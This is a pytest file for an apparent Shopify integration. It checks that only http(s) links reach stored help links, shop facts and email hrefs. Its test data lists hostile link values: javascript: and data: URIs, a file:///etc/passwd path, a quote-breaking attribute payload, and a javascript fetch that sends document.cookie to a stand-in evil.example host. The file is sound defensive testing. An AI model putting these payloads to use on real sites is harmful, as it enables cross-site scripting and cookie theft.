"""Finding 8 (links from the store stored unchecked) of "safe on the public internet": only http(s) links
enter help links, shop facts and the templates' link variables."""
from __future__ import annotations

import copy
from typing import Any

import pytest

from integration.db.models import Shop
from integration.runtime.links import web_link, web_links
from integration.shopify import facts as shop_facts
from tests.conftest import paid_order
from tests.helpers import deliver, drain, outbox
from tests.integration.shopify.test_facts import FACTS, shopify  # noqa: F401 - the fixture

HOSTILE = ["javascript:alert(document.cookie)", "JavaScript:alert(1)", " javascript:alert(1)", "data:text/html,x",
           "vbscript:x", "//evil.example/x", "/relative", "https://", "https://a.example/\"onmouseover=x", 42, None,
           "file:///etc/passwd", "https://a.example/\nx"]


@pytest.mark.parametrize("value", HOSTILE)
def test_only_web_links_pass_the_check(value: Any) -> None:
    assert web_link(value) is None


def test_web_links_keep_http_and_https() -> None:
    assert web_links({"a": "https://acme.example/returns", "b": "http://acme.example/x", "c": "javascript:x"}) == {
        "a": "https://acme.example/returns", "b": "http://acme.example/x"}


def test_a_javascript_policy_link_from_shopify_is_not_stored(app: Any, shop_id: int, shopify: Any) -> None:  # noqa: F811
    answer = copy.deepcopy(FACTS)
    answer["data"]["shop"]["shopPolicies"][1]["url"] = "javascript:fetch('//evil.example/'+document.cookie)"
    answer["data"]["shop"]["primaryDomain"]["url"] = "javascript:alert(1)"
    shopify.graphql_answers = [(200, answer)]
    with app.extensions["aftercare.db"].session() as session:
        session.get(Shop, shop_id).help_links = {}
    with app.app_context():
        assert shop_facts.refresh(shop_id, http_client=shopify.client()) == "refreshed"
    with app.extensions["aftercare.db"].session() as session:
        shop = session.get(Shop, shop_id)
        stored, storefront = dict(shop.help_links), shop.storefront_url
    assert stored == {"returns": "https://acme.example/policies/refund-policy"}
    assert storefront is None or storefront.startswith("http")


def test_a_javascript_link_already_stored_never_reaches_an_email_href(app: Any, shop_id: int) -> None:
    with app.extensions["aftercare.db"].session() as session:
        session.get(Shop, shop_id).help_links = {"contact": "javascript:alert(1)", "shipping": "data:text/html,x"}
    deliver(app.test_client(), "orders/create", paid_order(order_status_url="javascript:alert(2)"))
    drain(app)
    html = next(m.body_html for m in outbox(app) if m.channel == "email") or ""
    assert "javascript:" not in html.lower() and "data:text" not in html.lower()
